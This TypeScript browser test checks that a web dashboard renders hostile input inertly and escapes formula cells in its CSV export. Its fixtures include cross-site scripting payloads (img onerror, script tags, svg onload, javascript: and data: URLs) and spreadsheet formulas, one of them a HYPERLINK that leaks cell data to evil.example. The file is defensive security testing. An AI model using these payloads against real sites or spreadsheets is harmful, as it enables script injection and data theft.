/**
 * Hostile content in the web UI (../shared/docs/hostile-input.md case 38: XSS and CSV export), in
 * Chromium against the real server: a database with titles like `<img src=x onerror=…>` and
 * `<script>…</script>`, a `javascript:` URL in an item's link field, and team, value stream,
 * portfolio and people names with HTML or spreadsheet formulas. Every screen shows the text
 * literally, nothing runs (`window.__xss` stays undefined), no `javascript:` link exists, the page's
 * CSP has no `unsafe-inline` script source, the console stays clean, and a data table's "Download
 * CSV" writes the hostile cells with a leading `'`.
 */
import { readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  authHeaders,
  launchBrowser,
  openPage,
  type Server,
  screenshot,
  signIn,
  startServer,
} from './support.js';

const SRC = 'jira:HOSTILE';
const XSS = {
  img: '<img src=x onerror=window.__xss=1>',
  script: '<script>window.__xss=1</script>',
  svg: '<svg onload=window.__xss=1>',
  markdown: '[click](javascript:window.__xss=1) **bold** <a href="javascript:window.__xss=1">link</a>',
} as const;
const NAMES = {
  portfolio: `Portfolio ${XSS.script}`,
  valueStream: `Stream ${XSS.img}`,
  team: `<b onmouseover=window.__xss=1>Team</b> ${XSS.svg}`,
  personHtml: `Person ${XSS.img}`,
} as const;
/** Email cells that a spreadsheet would run as formulas (the field is free text). */
const FORMULAS = {
  equals: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  at: '@SUM(1+1)',
  plus: '+1+1',
  minus: '-2+3',
} as const;
const ITEMS = [
  { id: 'H-1', title: XSS.img, url: 'javascript:window.__xss=1' },
  { id: 'H-2', title: XSS.script, url: 'https://example.com/ok' },
  { id: 'H-3', title: `=1+1 ${XSS.svg}`, url: 'data:text/html,<script>window.__xss=1</script>' },
  { id: 'H-4', title: XSS.markdown, url: ' JavaScript:window.__xss=1' },
] as const;

const RECORDS = [
  { kind: 'portfolio', id: 'p-hostile', name: NAMES.portfolio },
  { kind: 'valueStream', id: 'vs-hostile', name: NAMES.valueStream, portfolio: 'p-hostile' },
  { kind: 'team', id: 't-hostile', name: NAMES.team, valueStream: 'vs-hostile' },
  ...Object.entries(FORMULAS).map(([key, email]) => ({
    kind: 'person',
    id: `person-${key}`,
    name: `Formula ${key}`,
    email,
  })),
  { kind: 'person', id: 'person-html', name: NAMES.personHtml, email: 'x@example.com' },
  {
    kind: 'mapping',
    source: SRC,
    statuses: {
      Open: { stage: 'create', state: 'waiting' },
      [`Doing ${XSS.img}`]: { stage: 'create', state: 'active' },
      Done: { stage: 'release', state: 'done' },
    },
    types: { Story: 'feature' },
  },
  ...ITEMS.map((item) => ({
    kind: 'workItem',
    source: SRC,
    id: item.id,
    type: 'Story',
    status: `Doing ${XSS.img}`,
    team: 't-hostile',
    title: item.title,
    url: item.url,
    labels: [XSS.script],
    createdAt: '2026-05-04T09:00:00Z',
  })),
  ...ITEMS.map((item) => ({
    kind: 'transition',
    source: SRC,
    item: item.id,
    at: '2026-05-06T09:00:00Z',
    from: 'Open',
    to: `Doing ${XSS.img}`,
  })),
];

const PERIOD = 'from=2026-04-01&to=2026-06-01';

describe('hostile content in the web UI', () => {
  let server: Server;
  let browser: Browser;
  let page: Page;
  let problems: string[];

  beforeAll(async () => {
    [server, browser] = await Promise.all([startServer(), launchBrowser()]);
    const imported = await fetch(`${server.url}/api/v1/import`, {
      method: 'POST',
      headers: { ...authHeaders(server), 'content-type': 'application/x-ndjson' },
      body: RECORDS.map((r) => JSON.stringify(r)).join('\n'),
    });
    const summary = (await imported.json()) as { files: { rejected: number; errors: unknown[] }[] };
    if (!imported.ok || summary.files[0]?.rejected !== 0)
      throw new Error(`the hostile records were not imported: ${JSON.stringify(summary)}`);
    ({ page, problems } = await openPage(browser));
    await signIn(page, server);
  });
  afterEach(() => {
    expect(problems).toEqual([]);
    problems.length = 0;
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  /** Nothing ran, nothing was injected, no link runs script. */
  const expectInert = async (screen: string) => {
    expect(
      await page.evaluate(() => (window as { __xss?: unknown }).__xss),
      `${screen}: window.__xss`,
    ).toBeUndefined();
    const injected = await page.evaluate(() => ({
      images: document.querySelectorAll('img[src="x"]').length,
      svgs: [...document.querySelectorAll('svg')].filter((s) => s.getAttribute('onload') !== null).length,
      handlers: [...document.querySelectorAll('*')].filter((e) =>
        [...e.attributes].some((a) => a.name.startsWith('on')),
      ).length,
      scripts: [...document.querySelectorAll('script')].filter((s) => (s.textContent ?? '').includes('__xss'))
        .length,
      links: [...document.querySelectorAll('a[href]')]
        .map((a) => (a as HTMLAnchorElement).href)
        .filter((href) => !/^https?:/i.test(href)),
    }));
    expect(injected, screen).toEqual({ images: 0, svgs: 0, handlers: 0, scripts: 0, links: [] });
  };

  it('case 38 (XSS): the CSP of the page allows no inline script', async () => {
    const response = await page.goto(`${server.url}/?${PERIOD}`);
    const csp = response?.headers()['content-security-policy'] ?? '';
    expect(csp).toMatch(/script-src [^;]*'self'/);
    expect(csp).not.toContain('unsafe-inline');
    // An injected inline script would be refused even if it reached the DOM.
    const ran = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__csp_probe = 1';
      document.body.append(script);
      return (window as { __csp_probe?: unknown }).__csp_probe;
    });
    expect(ran).toBeUndefined();
    // Chromium reports the refusal on the console: expected here, not a problem of the app.
    problems.splice(0, problems.length, ...problems.filter((p) => !/Content Security Policy/i.test(p)));
  });

  it('case 38 (XSS): overview, value stream and team screens show HTML names as text and run nothing', async () => {
    await page.goto(`${server.url}/?${PERIOD}`);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    await page.waitForLoadState('networkidle');
    await expectInert('overview');

    await page.goto(`${server.url}/value-streams/vs-hostile?${PERIOD}`);
    await page.getByText(NAMES.valueStream, { exact: false }).first().waitFor();
    await page.waitForLoadState('networkidle');
    await expectInert('value stream');

    await page.goto(`${server.url}/teams/t-hostile?${PERIOD}`);
    await page.getByRole('heading', { name: NAMES.team }).first().waitFor();
    await page.waitForLoadState('networkidle');
    await expectInert('team');
    await screenshot(page, 'hostile-team');
  });

  it('case 38 (XSS): the item list and its search show hostile titles literally', async () => {
    await page.goto(`${server.url}/teams/t-hostile?${PERIOD}&state=all`);
    await page.waitForLoadState('networkidle');
    for (const item of ITEMS) await page.getByText(item.title, { exact: true }).first().waitFor();
    await expectInert('item list');

    await page.goto(`${server.url}/teams/t-hostile?${PERIOD}&state=all&q=${encodeURIComponent('<img')}`);
    await page.waitForLoadState('networkidle');
    await page.getByText(XSS.img, { exact: true }).first().waitFor();
    expect(await page.getByText(XSS.script, { exact: true }).count()).toBe(0);
    await expectInert('item search');
  });

  it('case 38 (XSS): an item page shows its title as text; a javascript:, data: or odd URL is text, not a link', async () => {
    for (const item of ITEMS) {
      await page.goto(`${server.url}/items/${encodeURIComponent(SRC)}/${item.id}?${PERIOD}`);
      await page.getByRole('heading', { name: item.title }).first().waitFor();
      await page.waitForLoadState('networkidle');
      await expectInert(`item ${item.id}`);
      if (item.url.startsWith('https:')) {
        expect(await page.getByRole('link', { name: /Open in jira/ }).getAttribute('href')).toBe(item.url);
      } else {
        expect(await page.getByRole('link', { name: /Open in jira/ }).count()).toBe(0);
        expect(await page.getByTestId('item-url-text').textContent()).toBe(item.url);
      }
    }
    await screenshot(page, 'hostile-item');
  });

  it('case 38 (XSS): the organisation screen shows HTML names as text', async () => {
    await page.goto(`${server.url}/organisation?${PERIOD}`);
    await page.getByRole('heading', { name: 'Organisation', level: 1 }).waitFor();
    await page.getByTestId('people-table').waitFor();
    await page.waitForLoadState('networkidle');
    const people = page.getByTestId('people-table');
    await people.getByText(NAMES.personHtml).waitFor();
    for (const email of Object.values(FORMULAS)) await people.getByText(email, { exact: true }).waitFor();
    await page.getByText(NAMES.team, { exact: false }).first().waitFor();
    await expectInert('organisation');
  });

  it("case 38 (CSV export): a data table's Download CSV prefixes cells beginning with = + - @ with '", async () => {
    await page.goto(`${server.url}/organisation?${PERIOD}`);
    const table = page.getByTestId('people-table');
    await table.waitFor();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('people-table-csv').click(),
    ]);
    expect(download.suggestedFilename()).toBe('people-table.csv');
    const path = await download.path();
    const text = readFileSync(path, 'utf8').replace(/^\ufeff/, '');
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('Name,Email');
    // A name cell is the button's text: the kind, the name and the id.
    const row = (id: string) => lines.find((l) => l.startsWith(`Person Formula ${id} person-${id},`));
    // The formula cells are prefixed (and quoted where they hold quotes or commas)…
    expect(row('equals')).toBe(
      `Person Formula equals person-equals,"'${FORMULAS.equals.replaceAll('"', '""')}"`,
    );
    expect(row('at')).toBe(`Person Formula at person-at,'${FORMULAS.at}`);
    expect(row('plus')).toBe(`Person Formula plus person-plus,'${FORMULAS.plus}`);
    expect(row('minus')).toBe(`Person Formula minus person-minus,'${FORMULAS.minus}`);
    // …and the HTML name is written as it is: CSV is no HTML.
    expect(lines).toContain(`Person ${NAMES.personHtml} person-html,x@example.com`);
    // As many rows as the table shows.
    expect(lines.filter((l) => l !== '').length - 1).toBe(await table.locator('tbody tr').count());
    await expectInert('organisation after download');
  });
});
